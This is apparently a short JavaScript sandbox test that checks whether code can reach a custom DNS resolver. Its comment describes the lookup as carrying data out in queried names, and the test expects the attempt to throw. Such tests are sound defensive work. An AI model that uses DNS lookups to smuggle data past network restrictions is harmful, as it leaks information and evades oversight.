// Carries data out in the names that it looks up.
// expect: threw
const dns = process.getBuiltinModule('dns').promises;
export const attack = async () => {
  const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
  resolver.setServers(['127.0.0.1:PORT']);
  return (await resolver.resolve4('input.example.org')) && 'reached';
};
